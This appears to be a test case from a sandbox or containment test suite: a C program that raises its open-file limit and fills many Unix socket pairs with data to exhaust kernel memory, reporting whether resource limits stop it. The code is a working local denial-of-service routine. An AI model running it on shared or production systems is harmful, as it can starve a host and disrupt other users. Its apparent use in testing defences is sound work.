// attack: take the kernel's memory in buffers of sockets
// group: F
// source: unix(7)
// layer: rlimit (RLIMIT_NOFILE); cgroup
// outside: as any user
// needs: now
// arguments: 600
#include "../attack.h"
#include <sys/resource.h>
#include <sys/socket.h>

int main(int argc, char **argv) {
  static char block[4096];
  long pairs = number(argc, argv, 1, "pairs of sockets"), total = 0;
  struct rlimit limit;
  getrlimit(RLIMIT_NOFILE, &limit);
  limit.rlim_cur = limit.rlim_max;
  setrlimit(RLIMIT_NOFILE, &limit);
  for (long i = 0; i < pairs; i++) {
    int ends[2];
    if (socketpair(AF_UNIX, SOCK_STREAM | SOCK_NONBLOCK | SOCK_CLOEXEC, 0, ends) < 0) {
      denied_because("socketpair: %s after %ld pairs", strerrorname_np(errno), i);
    }
    for (ssize_t size; (size = write(ends[0], block, sizeof block)) > 0;) {
      total += size;
    }
  }
  succeeded("%ld pairs hold %ld KiB", pairs, total >> 10);
}
